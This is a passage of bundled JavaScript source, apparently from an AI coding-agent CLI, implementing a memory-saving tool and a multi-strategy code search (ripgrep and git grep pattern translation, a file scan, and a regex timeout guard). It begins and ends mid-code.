        return `${current}${separatorBefore(current)}${MEMORY_SECTION_HEADER}\n${item}\n`;
    }
    const sectionStart = headerAt + MEMORY_SECTION_HEADER.length;
    let sectionEnd = current.indexOf('\n## ', sectionStart);
    if (sectionEnd === -1)
        sectionEnd = current.length;
    const before = current.substring(0, sectionStart).trimEnd();
    const section = `${current.substring(sectionStart, sectionEnd).trimEnd()}\n${item}`;
    const after = current.substring(sectionEnd);
    return `${`${before}\n${section.trimStart()}\n${after}`.trimEnd()}\n`;
}
function separatorBefore(content) {
    if (content.length === 0)
        return '';
    if (content.endsWith('\n\n') || content.endsWith('\r\n\r\n'))
        return '';
    if (content.endsWith('\n'))
        return '\n';
    return '\n\n';
}
function createSaveMemoryTool(options = {}) {
    const homeDir = options.homeDir ?? external_node_os_default().homedir();
    const memoryPath = external_node_path_default().resolve(options.memoryPath ?? external_node_path_default().join(homeDir, '.gemini', DEFAULT_MEMORY_FILE_NAME));
    const shownPath = tildeify(memoryPath, homeDir);
    // Calls of this kind may run in parallel; each read-modify-write waits for the one before.
    let queue = Promise.resolve();
    return (0,define_tool/* defineTool */.u)({
        name: SAVE_MEMORY_TOOL_NAME,
        displayName: 'SaveMemory',
        description: 'Saves a specific piece of information or fact to your long-term memory, for use across future sessions. Use this when the user explicitly asks you to remember something, or states a clear, concise fact about themselves or their preferences that seems important to keep. Do NOT use it for session-specific context or temporary data.',
        kind: 'think',
        parameters: save_memory_parameters,
        validate(params) {
            if (sanitizeFact(params.fact) === '') {
                return {
                    message: 'Parameter "fact" must be a non-empty string.',
                    type: 'invalid_tool_params',
                };
            }
            return null;
        },
        invocation(params) {
            const fact = sanitizeFact(params.fact);
            return {
                describe: () => `Remember "${fact}" in ${shownPath}`,
                locations: () => [memoryPath],
                confirmationDetails: () => Promise.resolve({
                    type: 'info',
                    title: `Confirm Memory Save: ${shownPath}`,
                    prompt: `Add "- ${fact}" under "${MEMORY_SECTION_HEADER}" in ${shownPath}`,
                }),
                execute: () => {
                    const run = queue.then(() => save(memoryPath, params.fact));
                    queue = run.catch(() => undefined);
                    return run;
                },
            };
        },
    });
}
async function save(memoryPath, fact) {
    try {
        const current = await readIfExists(memoryPath);
        await (0,promises_.mkdir)(external_node_path_default().dirname(memoryPath), { recursive: true, mode: 0o700 });
        await (0,promises_.writeFile)(memoryPath, addMemoryEntry(current, fact), { encoding: 'utf8', mode: 0o600 });
        const message = `Okay, I've remembered that: "${sanitizeFact(fact)}"`;
        return { llmContent: JSON.stringify({ success: true, message }), returnDisplay: message };
    }
    catch (error) {
        const message = (0,errors/* errorMessage */.gJ)(error);
        return {
            llmContent: JSON.stringify({
                success: false,
                error: `Failed to save memory. Detail: ${message}`,
            }),
            returnDisplay: `Error saving memory: ${message}`,
            error: { message, type: 'memory_tool_execution_error' },
        };
    }
}
async function readIfExists(file) {
    try {
        return await (0,promises_.readFile)(file, 'utf8');
    }
    catch (error) {
        if (error.code === 'ENOENT')
            return '';
        throw error;
    }
}
function tildeify(file, homeDir) {
    const relative = external_node_path_default().relative(external_node_path_default().resolve(homeDir), file);
    if (relative === '' || relative.startsWith('..') || external_node_path_default().isAbsolute(relative))
        return file;
    return `~/${relative.split((external_node_path_default()).sep).join('/')}`;
}

;// CONCATENATED MODULE: ./src/tools/search/format.ts
/** Lines longer than this are cut: one minified file must not fill the model's context. */
const MAX_MATCH_LINE_LENGTH = 500;
function formatSearchResults(matches, options) {
    const filter = options.include === undefined ? '' : ` (filter: "${options.include}")`;
    const subject = `for pattern "${options.pattern}" ${options.location}${filter}`;
    if (matches.length === 0) {
        return { llmContent: `No matches found ${subject}.`, returnDisplay: 'No matches found' };
    }
    const shown = matches.slice(0, options.maxMatches);
    const truncated = options.moreExist || matches.length > shown.length;
    const term = shown.length === 1 ? 'match' : 'matches';
    const limited = truncated
        ? ` (results limited to ${options.maxMatches} matches for performance)`
        : '';
    let text = `Found ${shown.length} ${term} ${subject}${limited}:\n---\n`;
    let current;
    for (const match of shown) {
        if (match.filePath !== current) {
            if (current !== undefined)
                text += '---\n';
            current = match.filePath;
            text += `File: ${match.filePath}\n`;
        }
        text += `L${match.lineNumber}: ${cutLine(match.line).trimEnd()}\n`;
    }
    text += '---';
    return {
        llmContent: text,
        returnDisplay: `Found ${shown.length} ${term}${truncated ? ' (limited)' : ''}`,
    };
}
function cutLine(line) {
    if (line.length <= MAX_MATCH_LINE_LENGTH)
        return line;
    let end = MAX_MATCH_LINE_LENGTH;
    // Never split a surrogate pair.
    const code = line.charCodeAt(end - 1);
    if (code >= 0xd800 && code <= 0xdbff)
        end -= 1;
    return `${line.slice(0, end)}... [truncated]`;
}

;// CONCATENATED MODULE: ./src/tools/search/pattern-dialect.ts
/**
 * Keeping one meaning for the model's pattern across regex engines.
 *
 * The meaning is JavaScript's (`new RegExp(pattern, 'i')`), and the collector tests every line
 * against it, so an engine can never add a line. An engine could still miss one where its
 * dialect reads the same text differently; the checks here send such patterns to a strategy
 * that reads them correctly instead:
 * - escapes only some engines know (`\h`, `\p{L}`, `\Q…\E`, `\k<n>`, `\0`) or read differently
 *   (`\x{…}`), POSIX classes (`[[:alpha:]]`) and JavaScript's `[]` / `[^]` are not passed on;
 * - for ripgrep's default engine, whose `\b`, `\W` and `\D` know Unicode letters and digits,
 *   those are rewritten to their ASCII forms, and a brace that is no quantifier is escaped;
 * - for POSIX extended regexes (git grep without PCRE) only a plain subset is passed.
 * Left as known limits: case folding of non-ASCII letters, and Unicode-aware classes under
 * PCRE2 builds that enable them.
 */
/** Escapes with one meaning in JavaScript, PCRE2 and ripgrep (outside character classes). */
const SHARED_LETTER_ESCAPES = new Set([
    'd',
    'D',
    'w',
    'W',
    's',
    'S',
    'b',
    'B',
    'n',
    'r',
    't',
    'f',
    'v',
]);
const QUANTIFIER_BRACE = /^\{\d+(,\d*)?\}/u;
const LOOKAROUND_OR_BACKREFERENCE = /\(\?<?[=!]|\\[1-9]/u;
function tokenize(pattern) {
    const tokens = [];
    let inClass = false;
    for (let i = 0; i < pattern.length; i += 1) {
        const char = pattern.charAt(i);
        if (char === '\\') {
            const escape = readEscape(pattern, i, inClass);
            if (typeof escape !== 'string')
                return escape.problem;
            tokens.push({ text: escape, inClass });
            i += escape.length - 1;
            continue;
        }
        if (inClass) {
            if (char === '[' && /[:=.]/u.test(pattern.charAt(i + 1))) {
                return 'POSIX bracket expressions such as [[:alpha:]] mean something else in JavaScript';
            }
            if (char === ']')
                inClass = false;
            tokens.push({ text: char, inClass: true });
            continue;
        }
        if (char === '[') {
            const rest = pattern.slice(i + 1);
            if (rest.startsWith(']') || rest.startsWith('^]')) {
                return 'the JavaScript classes [] and [^] mean something else in other engines';
            }
            inClass = true;
            const opening = rest.startsWith('^') ? '[^' : '[';
            tokens.push({ text: opening, inClass: true, opensClass: true });
            i += opening.length - 1;
            continue;
        }
        tokens.push({ text: char, inClass: false });
    }
    return tokens;
}
function readEscape(pattern, at, inClass) {
    const next = pattern.charAt(at + 1);
    if (next === '')
        return { problem: 'a pattern cannot end with a backslash' };
    if (!/[A-Za-z0-9]/u.test(next))
        return `\\${next}`;
    if (next === 'x' && /^[0-9A-Fa-f]{2}$/u.test(pattern.slice(at + 2, at + 4))) {
        return pattern.slice(at, at + 4);
    }
    if (next === 'u' && /^[0-9A-Fa-f]{4}$/u.test(pattern.slice(at + 2, at + 6))) {
        return pattern.slice(at, at + 6);
    }
    if (/[1-9]/u.test(next) && !inClass)
        return `\\${next}`;
    const boundary = next === 'b' || next === 'B';
    if (SHARED_LETTER_ESCAPES.has(next) && !(inClass && boundary))
        return `\\${next}`;
    return { problem: `the escape \\${next} means something else (or nothing) in other engines` };
}
/** Why the pattern must not be given to an external engine, or null when it may. */
function portabilityProblem(pattern) {
    const tokens = tokenize(pattern);
    return typeof tokens === 'string' ? tokens : null;
}
/** Characters ripgrep's default engine lets (or needs to) be escaped. */
const RUST_META = new Set('\\.+*?()|[]{}^$#&-~'.split(''));
/** Inside a class: nested classes and set operators (`&&`, `~~`) that JavaScript reads literally. */
const RUST_CLASS_SPECIAL = new Set(['[', '&', '~']);
/** The pattern for ripgrep (see the file comment); call only for portable patterns. */
function toRipgrepPattern(pattern) {
    const tokens = tokenize(pattern);
    // Look-around and backreferences go to PCRE2, which rejects `(?-u:…)`: pass those unchanged.
    if (typeof tokens === 'string' || LOOKAROUND_OR_BACKREFERENCE.test(pattern))
        return pattern;
    let out = '';
    for (let index = 0; index < tokens.length; index += 1) {
        const token = tokens[index];
        if (token === undefined)
            break;
        if (token.inClass) {
            out += token.opensClass ? token.text : ripgrepClassToken(token.text);
            continue;
        }
        const { text } = token;
        if (text === '\\b' || text === '\\B' || text === '\\W' || text === '\\D') {
            out += `(?-u:${text})`;
        }
        else if (isPunctuationEscape(text)) {
            out += RUST_META.has(text.charAt(1)) ? text : text.charAt(1);
        }
        else if (text === '{') {
            const quantifier = index > 0 ? QUANTIFIER_BRACE.exec(joinFrom(tokens, index)) : null;
            out += quantifier ? quantifier[0] : '\\{';
            index += quantifier ? quantifier[0].length - 1 : 0;
        }
        else if (text === '}') {
            out += '\\}';
        }
        else {
            out += text;
        }
    }
    return out;
}
function ripgrepClassToken(text) {
    if (text === '\\W')
        return '[:^word:]';
    if (text === '\\D')
        return '[:^digit:]';
    if (isPunctuationEscape(text)) {
        const char = text.charAt(1);
        return RUST_META.has(char) ? text : ripgrepClassToken(char);
    }
    return RUST_CLASS_SPECIAL.has(text) ? `\\${text}` : text;
}
function isPunctuationEscape(text) {
    return text.length === 2 && text.startsWith('\\') && !/[A-Za-z0-9]/u.test(text.charAt(1));
}
function joinFrom(tokens, index) {
    return tokens
        .slice(index)
        .map((token) => token.text)
        .join('');
}
/** Escaped characters that POSIX extended regexes read literally (GNU gives `\<`, `\'` meanings). */
const POSIX_LITERAL_ESCAPES = new Set('.[]{}()*+?^$|\\/-'.split(''));
/**
 * Whether POSIX extended regex syntax (git grep -E) reads the pattern as JavaScript does:
 * literals, `.`, classes without escapes, `^`, groups, alternation, greedy quantifiers and the
 * `\w` class (which may only match more, never less). Anything else is refused, `$` too.
 */
function isPosixExtendedSafe(pattern) {
    const tokens = tokenize(pattern);
    if (typeof tokens === 'string')
        return false;
    for (let index = 0; index < tokens.length; index += 1) {
        const { text, inClass } = tokens[index] ?? { text: '', inClass: false };
        const following = tokens[index + 1]?.text ?? '';
        if (text.startsWith('\\')) {
            if (inClass)
                return false;
            if (text !== '\\w' &&
                !(isPunctuationEscape(text) && POSIX_LITERAL_ESCAPES.has(text.charAt(1)))) {
                return false;
            }
            continue;
        }
        if (inClass)
            continue;
        // git hands CRLF lines over with their `\r`, where `$` cannot match.
        if (text === '$')
            return false;
        if (text === '(' && following === '?')
            return false;
        if ((text === '*' || text === '+' || text === '?') &&
            (following === '?' || following === '+')) {
            return false;
        }
        if (text === '{') {
            const rest = joinFrom(tokens, index);
            const quantifier = index > 0 ? QUANTIFIER_BRACE.exec(rest) : null;
            if (!quantifier)
                return false;
            const after = rest.charAt(quantifier[0].length);
            if (after === '?' || after === '+')
                return false;
            index += quantifier[0].length - 1;
            continue;
        }
        if (text === '}')
            return false;
    }
    return true;
}

// EXTERNAL MODULE: external "node:child_process"
var external_node_child_process_ = __webpack_require__(31421);
// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(73024);
// EXTERNAL MODULE: ./src/platform/tool-environment.ts
var tool_environment = __webpack_require__(4861);
;// CONCATENATED MODULE: ./src/tools/search/run-process.ts
/**
 * Running a search program: an argument list (never a shell), a working directory inside the
 * workspace, the tool environment, output read line by line with back-pressure, and a stop on
 * abort or as soon as the reader has enough.
 */





/** Keeps the end of stderr for error messages; search programs rarely say more than a line. */
const STDERR_KEEP_BYTES = 4096;
/** Runs a program to the end (or until `onLine` stops it); throws the abort reason on abort. */
async function runLines(options) {
    options.signal.throwIfAborted();
    const child = (0,external_node_child_process_.spawn)(options.command, options.args, {
        cwd: options.cwd,
        env: { ...(0,tool_environment/* buildToolEnvironment */.iT)(process.env), ...options.env },
        stdio: ['ignore', 'pipe', 'pipe'],
        shell: false,
        windowsHide: true,
        signal: options.signal,
    });
    const closed = new Promise((resolve, reject) => {
        child.once('error', reject);
        child.once('close', (code) => {
            resolve(code);
        });
    });
    // The rejection is observed below; avoid an unhandled rejection while stdout is still read.
    closed.catch(() => undefined);
    let stderr = Buffer.alloc(0);
    child.stderr.on('data', (chunk) => {
        stderr = Buffer.concat([stderr, chunk]);
        if (stderr.length > STDERR_KEEP_BYTES)
            stderr = stderr.subarray(-STDERR_KEEP_BYTES);
    });
    let stopped = false;
    let pending = Buffer.alloc(0);
    try {
        reading: for await (const chunk of child.stdout) {
            pending = pending.length === 0 ? chunk : Buffer.concat([pending, chunk]);
            let newline = pending.indexOf(10);
            while (newline !== -1) {
                const line = pending.subarray(0, newline);
                pending = pending.subarray(newline + 1);
                if ((await options.onLine(line)) === 'stop') {
                    stopped = true;
                    break reading;
                }
                newline = pending.indexOf(10);
            }
        }
        if (!stopped && pending.length > 0)
            stopped = (await options.onLine(pending)) === 'stop';
    }
    catch (error) {
        child.kill('SIGKILL');
        await closed.catch(() => undefined);
        options.signal.throwIfAborted();
        throw error;
    }
    if (stopped) {
        child.stdout.destroy();
        child.kill('SIGTERM');
    }
    try {
        const exitCode = await closed;
        return { exitCode, stderr: stderr.toString('utf8').trim(), stopped };
    }
    catch (error) {
        options.signal.throwIfAborted();
        throw error;
    }
}
/**
 * The absolute path of `name` on `PATH`, or null. Relative `PATH` entries and directories inside
 * the workspace are skipped: a program planted in the repository must never run in place of the
 * real one.
 */
async function findExecutable(name, options) {
    const names = process.platform === 'win32' ? [`${name}.exe`, name] : [name];
    for (const dir of (options.pathVariable ?? '').split((external_node_path_default()).delimiter)) {
        if (dir === '' || !external_node_path_default().isAbsolute(dir))
            continue;
        const resolvedDir = external_node_path_default().resolve(dir);
        if (options.untrustedDirectories.some((root) => isWithin(resolvedDir, root)))
            continue;
        for (const candidate of names) {
            const full = external_node_path_default().join(resolvedDir, candidate);
            if (await isExecutableFile(full))
                return full;
        }
    }
    return null;
}
async function isExecutableFile(file) {
    try {
        if (!(await (0,promises_.stat)(file)).isFile())
            return false;
        await (0,promises_.access)(file, external_node_fs_.constants.X_OK);
        return true;
    }
    catch {
        return false;
    }
}
function isWithin(candidate, root) {
    return (candidate === root || candidate.startsWith(root.endsWith((external_node_path_default()).sep) ? root : root + (external_node_path_default()).sep));
}

;// CONCATENATED MODULE: ./src/tools/search/git-grep.ts
/**
 * The git grep strategy, for a search directory inside a git work tree: tracked and untracked
 * files (`--untracked`), binary files skipped (`-I`), the pattern as PCRE (`-P`) where git has
 * it, else as a POSIX extended regex (`-E`) when that reads the pattern the same way.
 *
 * git is run without system or global configuration and with settings that change its output
 * or run programs (`core.fsmonitor`) turned off, so a repository's or user's configuration
 * cannot reshape the result. Its output comes in index order, not path order, so it runs to the
 * end and the collector sorts.
 */




const PCRE_MISSING = /USE_LIBPCRE|Perl-compatible regexes/iu;
function createGitGrepStrategy(options = {}) {
    let perlRegex = options.disablePerlRegex !== true;
    return {
        name: 'git grep',
        ordered: false,
        async search(request) {
            const git = await findExecutable('git', {
                pathVariable: options.pathVariable ?? process.env.PATH,
                untrustedDirectories: request.untrustedDirectories,
            });
            if (git === null)
                return { kind: 'unavailable', reason: 'git is not on PATH' };
            const problem = portabilityProblem(request.pattern);
            if (problem !== null)
                return { kind: 'unavailable', reason: problem };
            if (!(await insideWorkTree(git, request))) {
                return { kind: 'unavailable', reason: 'the search directory is not in a git work tree' };
            }
            if (perlRegex) {
                const outcome = await runGitGrep(git, request, '-P');
                if (outcome.kind === 'searched' || !PCRE_MISSING.test(outcome.reason))
                    return outcome;
                perlRegex = false;
            }
            if (!isPosixExtendedSafe(request.pattern)) {
                return {
                    kind: 'unavailable',
                    reason: 'git has no PCRE support and the pattern is not plain POSIX extended syntax',
                };
            }
            return runGitGrep(git, request, '-E');
        },
    };
}
/** Settings that would change what git grep prints or make it run other programs. */
const GIT_CONFIG = [
    'core.fsmonitor=false',
    `core.excludesFile=${external_node_os_.devNull}`,
    'grep.fullName=false',
    'grep.column=false',
    'grep.lineNumber=true',
    'grep.fallbackToNoIndex=false',
    'color.grep=never',
];
/** The arguments for one search; exported for tests that check what is (not) passed. */
function gitGrepArguments(request, syntax) {
    const args = GIT_CONFIG.flatMap((setting) => ['-c', setting]);
    args.push('grep', '--untracked', '-n', '-z', '-I', '--ignore-case', '--no-color', syntax);
    if (!request.respectGitIgnore)
        args.push('--no-exclude-standard');
    // PCRE's `$` then also matches before the `\r` of a CRLF line, and `.` no longer matches `\r`,
    // as in JavaScript.
    args.push('-e', syntax === '-P' ? `(*ANYCRLF)${request.pattern}` : request.pattern, '--');
    if (request.targetFile !== null) {
        args.push(`:(literal)${request.targetFile}`);
        return args;
    }
    const include = request.include;
    // git's globs know no braces and read `!` differently; the collector applies those includes.
    if (include !== undefined && !include.includes('{') && !include.startsWith('!')) {
        args.push(include.includes('/') ? `:(glob)${include}` : `:(glob)**/${include}`);
    }
    for (const dir of file_walk/* DEFAULT_EXCLUDED_DIRECTORIES */.Rc)
        args.push(`:(exclude,glob)**/${dir}/**`);
    return args;
}
async function insideWorkTree(git, request) {
    let answer = '';
    try {
        const result = await runLines({
            command: git,
            args: ['rev-parse', '--is-inside-work-tree'],
            cwd: request.searchDir,
            signal: request.signal,
            env: gitEnvironment(),
            onLine: (line) => {
                answer += line.toString('utf8').trim();
                return 'more';
            },
        });
        return result.exitCode === 0 && answer === 'true';
    }
    catch {
        request.signal.throwIfAborted();
        return false;
    }
}
async function runGitGrep(git, request, syntax) {
    const result = await runLines({
        command: git,
        args: gitGrepArguments(request, syntax),
        cwd: request.searchDir,
        signal: request.signal,
        env: gitEnvironment(),
        onLine: async (raw) => {
            // -z: `path NUL line-number NUL text`; the text may contain NUL bytes itself.
            const first = raw.indexOf(0);
            const second = first === -1 ? -1 : raw.indexOf(0, first + 1);
            if (second === -1)
                return 'more';
            const lineNumber = Number(raw.subarray(first + 1, second).toString('latin1'));
            const verdict = await request.collect({
                filePath: raw.subarray(0, first).toString('utf8'),
                lineNumber,
                line: raw.subarray(second + 1).toString('utf8'),
            });
            return verdict === 'enough' ? 'stop' : 'more';
        },
    });
    if (result.stopped || result.exitCode === 0 || result.exitCode === 1)
        return { kind: 'searched' };
    return {
        kind: 'unavailable',
        reason: `git grep ${syntax} exited with ${String(result.exitCode)}: ${result.stderr.slice(0, 300)}`,
    };
}
/**
 * No system or global configuration, no optional index locks, and a UTF-8 locale so that PCRE
 * and POSIX classes read multi-byte characters as characters.
 */
function gitEnvironment() {
    const inherited = process.env.LC_ALL ?? process.env.LC_CTYPE ?? process.env.LANG ?? '';
    return {
        GIT_CONFIG_NOSYSTEM: '1',
        GIT_CONFIG_GLOBAL: external_node_os_.devNull,
        GIT_OPTIONAL_LOCKS: '0',
        LC_ALL: /utf-?8/iu.test(inherited) ? inherited : 'C.UTF-8',
    };
}

;// CONCATENATED MODULE: ./src/tools/search/skipped-extensions.ts
/**
 * File name endings that are never searched for text: archives, executables, office documents,
 * images, audio, video, fonts and compiled code. Every search strategy applies the same list,
 * matched case-insensitively against the end of the file name (SVG is text and stays in).
 */
const BINARY_EXTENSIONS_FOR_SEARCH = ('.7z .a .aac .aif .aiff .avi .avif .bin .bmp .bz2 .class .dat .db .dll .dmg .doc .docx ' +
    '.dylib .eot .exe .flac .flv .gif .gz .heic .heif .ico .img .iso .jar .jpeg .jpg .lib .lz4 ' +
    '.m4a .mdb .mkv .mov .mp3 .mp4 .mpeg .mpg .o .obj .odp .ods .odt .ogg .opus .otf .pdf .png ' +
    '.ppt .pptx .pyc .pyo .rar .so .sqlite .tar .tif .tiff .ttf .war .wasm .wav .webm .webp ' +
    '.wma .woff .woff2 .xls .xlsx .xz .zip .zst').split(' ');
/** Whether a file name (or a path ending in one) has one of the skipped endings. */
function hasSkippedExtension(fileName) {
    const lower = fileName.toLowerCase();
    return BINARY_EXTENSIONS_FOR_SEARCH.some((extension) => lower.endsWith(extension));
}

;// CONCATENATED MODULE: ./src/tools/search/match-collector.ts
/**
 * The one rule for what a search result contains, whichever program proposed the lines.
 *
 * ripgrep, git grep and the JavaScript scan differ in ignore files, binary detection, symlinks
 * and regex dialects. Each candidate line therefore passes the same checks here: the file lies
 * inside the workspace without a symlink on the way, is not ignored or excluded, passes the
 * include glob, is a regular text file of sane size, and the line matches the JavaScript
 * regular expression. What remains is sorted by path and line number.
 */





/** Git's rule: a NUL byte in the first 8000 bytes makes a file binary. */
const BINARY_SNIFF_BYTES = 8000;
/** Candidates are verified in batches of this many lines. */
const VERIFY_BATCH = 1000;
/** Binary by git's NUL rule or by the content heuristic `read_file` uses. */
function isBinaryContent(head) {
    return head.subarray(0, BINARY_SNIFF_BYTES).includes(0) || (0,read_file/* looksBinary */.Wb)(head);
}
/**
 * The include glob in the form every strategy is given: `/`-separated, without a leading `./`
 * or `/`, and a directory glob (`src/`) widened to the files below it. Undefined when empty.
 */
function normalizeInclude(include) {
    if (include === undefined || include.trim() === '')
        return undefined;
    let glob = include.split((external_node_path_default()).sep).join('/');
    while (glob.startsWith('./'))
        glob = glob.slice(2);
    while (glob.startsWith('/'))
        glob = glob.slice(1);
    if (glob.endsWith('/'))
        glob += '**';
    return glob === '' ? undefined : glob;
}
/**
 * A normalized include glob as ripgrep reads `--glob`: without a `/` it matches the file name at
 * any depth, with one it matches the path from the search directory.
 */
function includeMatcher(include) {
    if (include === undefined)
        return () => true;
    const matches = picomatch_default()(include, { dot: true });
    if (include.includes('/'))
        return matches;
    return (relativePath) => matches(external_node_path_default().posix.basename(relativePath));
}
class MatchCollector {
    options;
    verified = [];
    pending = [];
    seen = new Set();
    fileChecks = new Map();
    selects;
    constructor(options) {
        this.options = options;
        this.selects = includeMatcher(options.include);
    }
    /** Whether a directory below the search directory can be skipped (for the JavaScript scan). */
    prunesDirectory(relativePath) {
        if ((0,file_walk/* inDefaultExcludedDirectory */.GY)(relativePath))
            return true;
        const fromRoot = this.rootRelative(relativePath);
        return fromRoot !== null && this.options.filter.isIgnored(fromRoot, { isDirectory: true });
    }
    selectsFile(relativePath) {
        return this.selects(relativePath);
    }
    async collect(raw) {
        if (this.verified.length >= this.options.limit)
            return 'enough';
        const filePath = normalizeRelative(raw.filePath);
        if (filePath === null || !Number.isInteger(raw.lineNumber) || raw.lineNumber < 1) {
            return 'more';
        }
        const key = `${filePath}\0${raw.lineNumber}`;
        if (this.seen.has(key))
            return 'more';
        this.seen.add(key);
        if (!(await this.acceptsFile(filePath)))
            return 'more';
        let line = raw.line.endsWith('\r') ? raw.line.slice(0, -1) : raw.line;
        if (raw.lineNumber === 1 && line.startsWith('\uFEFF'))
            line = line.slice(1);
        this.pending.push({ filePath, lineNumber: raw.lineNumber, line });
        const due = this.verified.length + this.pending.length >= this.options.limit;
        if (due || this.pending.length >= VERIFY_BATCH)
            this.verifyPending();
        return this.verified.length >= this.options.limit ? 'enough' : 'more';
    }
    /** Every accepted match, in path and line order. */
    finish() {
        this.verifyPending();
        return [...this.verified].sort((a, b) => (0,file_walk/* comparePaths */.cD)(a.filePath, b.filePath) || a.lineNumber - b.lineNumber);
    }
    verifyPending() {
        const batch = this.pending;
        this.pending = [];
        const hits = this.options.lineMatcher.matching(batch.map((match) => match.line));
        for (const index of hits) {
            const match = batch[index];
            if (match)
                this.verified.push(match);
        }
    }
    acceptsFile(relativePath) {
        let check = this.fileChecks.get(relativePath);
        if (!check) {
            check = this.checkFile(relativePath);
            this.fileChecks.set(relativePath, check);
        }
        return check;
    }
    async checkFile(relativePath) {
        const { workspace, filter, searchDir, maxFileBytes } = this.options;
        if ((0,file_walk/* inDefaultExcludedDirectory */.GY)(relativePath) || !this.selects(relativePath))
            return false;
        if (hasSkippedExtension(external_node_path_default().posix.basename(relativePath)))
            return false;
        const fromRoot = this.rootRelative(relativePath);
        if (fromRoot !== null && filter.isIgnored(fromRoot))
            return false;
        const absolutePath = external_node_path_default().join(searchDir, relativePath);
        // The path must be its own real path: no symlink on the way, nothing outside the workspace.
        const resolved = workspace.resolve(absolutePath, { purpose: 'read' });
        if (!resolved.ok || resolved.absolutePath !== absolutePath)
            return false;
        try {
            const head = await readVerified(workspace, absolutePath, {
                maxBytes: maxFileBytes,
                limit: BINARY_SNIFF_BYTES,
            });
            return head !== null && !isBinaryContent(head);
        }
        catch {
            return false;
        }
    }
    /** A whole file below the search directory (for the JavaScript scan), or null. */
    async readFile(relativePath) {
        const absolutePath = external_node_path_default().join(this.options.searchDir, relativePath);
        try {
            return await readVerified(this.options.workspace, absolutePath, {
                maxBytes: this.options.maxFileBytes,
            });
        }
        catch {
            return null;
        }
    }
    /** The path relative to the primary root, or null when the file lies in another root. */
    rootRelative(relativePath) {
        const absolutePath = external_node_path_default().join(this.options.searchDir, relativePath);
        const fromRoot = external_node_path_default().relative(this.options.workspace.root, absolutePath);
        return (0,file_walk/* escapes */.r6)(fromRoot) ? null : fromRoot;
    }
}
/**
 * Reads a file through the workspace's verified open, so a file swapped for a symlink after the
 * checks is never read: the first `limit` bytes, or all of it. Null when the open is refused or
 * the file is not a regular file or larger than `maxBytes`.
 */
async function readVerified(workspace, absolutePath, options) {
    const opened = await workspace.openVerified(absolutePath, { purpose: 'read' });
    if (!opened.ok)
        return null;
    try {
        if (!opened.stats.isFile() || opened.stats.size > options.maxBytes)
            return null;
        if (options.limit === undefined)
            return await opened.handle.readFile();
        const buffer = Buffer.alloc(options.limit);
        const { bytesRead } = await opened.handle.read(buffer, 0, options.limit, 0);
        return buffer.subarray(0, bytesRead);
    }
    finally {
        await opened.handle.close();
    }
}
/** `/`-separated and without `./`; null for paths that leave the search directory. */
function normalizeRelative(filePath) {
    let normalized = filePath.split((external_node_path_default()).sep).join('/');
    while (normalized.startsWith('./'))
        normalized = normalized.slice(2);
    if (normalized === '' || external_node_path_default().posix.isAbsolute(normalized))
        return null;
    const segments = normalized.split('/');
    if (segments.some((segment) => segment === '..' || segment === '.' || segment === '')) {
        return null;
    }
    return normalized;
}

;// CONCATENATED MODULE: ./src/tools/search/js-scan.ts
/**
 * The JavaScript scan: walks the search directory itself (ignored and excluded directories
 * pruned, symlinks never followed), reads each selected text file and tests its lines. Always
 * available, and the reference the other strategies are held to. Files come in path order.
 */





function createJsScanStrategy() {
    return {
        name: 'JavaScript scan',
        ordered: true,
        async search(request) {
            for await (const file of filesToScan(request)) {
                request.signal.throwIfAborted();
                if (file.isSymbolicLink)
                    continue;
                if (hasSkippedExtension(external_node_path_default().posix.basename(file.relativePath)))
                    continue;
                if (!request.selectsFile(file.relativePath))
                    continue;
                const lines = await readLines(request, file.relativePath);
                if (lines === null)
                    continue;
                if ((await scanLines(lines, file.relativePath, request)) === 'enough')
                    break;
            }
            return { kind: 'searched' };
        },
    };
}
async function* filesToScan(request) {
    if (request.targetFile !== null) {
        const absolutePath = external_node_path_default().join(request.searchDir, request.targetFile);
        const stats = await (0,promises_.lstat)(absolutePath).catch(() => null);
        if (stats?.isFile()) {
            yield { absolutePath, relativePath: request.targetFile, isSymbolicLink: false };
        }
        return;
    }
    yield* (0,file_walk/* walkFiles */.Fv)(request.searchDir, {
        signal: request.signal,
        skipDirectory: (relativePath) => request.prunesDirectory(relativePath),
    });
}
async function scanLines(lines, relativePath, request) {
    for (const index of request.matchLines(lines)) {
        const verdict = await request.collect({
            filePath: relativePath,
            lineNumber: index + 1,
            line: lines[index] ?? '',
        });
        if (verdict === 'enough')
            return 'enough';
    }
    return 'more';
}
/**
 * The lines of a text file as the other strategies see them: UTF-8, a byte-order mark dropped,
 * `\n` or `\r\n` ending a line, and no empty "line" after a final line break. Null for files
 * that are too large, binary or unreadable.
 */
async function readLines(request, relativePath) {
    const bytes = await request.readFile(relativePath);
    if (bytes === null || isBinaryContent(bytes.subarray(0, BINARY_SNIFF_BYTES)))
        return null;
    let text = bytes.toString('utf8');
    if (text.startsWith('\uFEFF'))
        text = text.slice(1);
    if (text === '')
        return [];
    const lines = text.split(/\r?\n/u);
    if (text.endsWith('\n'))
        lines.pop();
    return lines;
}

// EXTERNAL MODULE: external "node:vm"
var external_node_vm_ = __webpack_require__(30714);
var external_node_vm_default = /*#__PURE__*/__webpack_require__.n(external_node_vm_);
;// CONCATENATED MODULE: ./src/tools/search/line-matcher.ts
/**
 * Testing lines against the model's regular expression without letting it stall the process.
 *
 * The pattern comes from the model and the lines from the repository, both untrusted: a pattern
 * such as `(a+)+$` on a long line backtracks for minutes, and JavaScript cannot interrupt a
 * running regular expression from the outside. A `vm` script with a timeout can: V8 stops it when
 * the time is up. Lines are tested in batches so the cost of that guard stays small.
 */

/** Time one batch of lines may take before the pattern counts as too slow. */
const DEFAULT_BATCH_TIMEOUT_MS = 2000;
class RegexTimeoutError extends Error {
    name = 'RegexTimeoutError';
    constructor(timeoutMs) {
        super(`The regular expression took longer than ${timeoutMs} ms on one batch of lines and was stopped; it probably backtracks catastrophically. Simplify the pattern (avoid nested quantifiers such as (a+)+).`);
    }
}
const SCRIPT = new (external_node_vm_default()).Script('hits = []; for (let i = 0; i < lines.length; i += 1) { if (regex.test(lines[i])) hits.push(i); }');
function createLineMatcher(regex, options = {}) {
    const timeoutMs = options.timeoutMs ?? DEFAULT_BATCH_TIMEOUT_MS;
    // Without the `g` or `y` flag, `test` keeps no state between lines.
    const flags = regex.flags.replace(/[gy]/gu, '');
    const context = external_node_vm_default().createContext({
        regex: new RegExp(regex.source, flags),
        lines: [],
        hits: [],
    });
    return {
        matching(lines) {
            if (lines.length === 0)
                return [];
            context.lines = lines;
            try {
                SCRIPT.runInContext(context, { timeout: timeoutMs });
            }
            catch (error) {
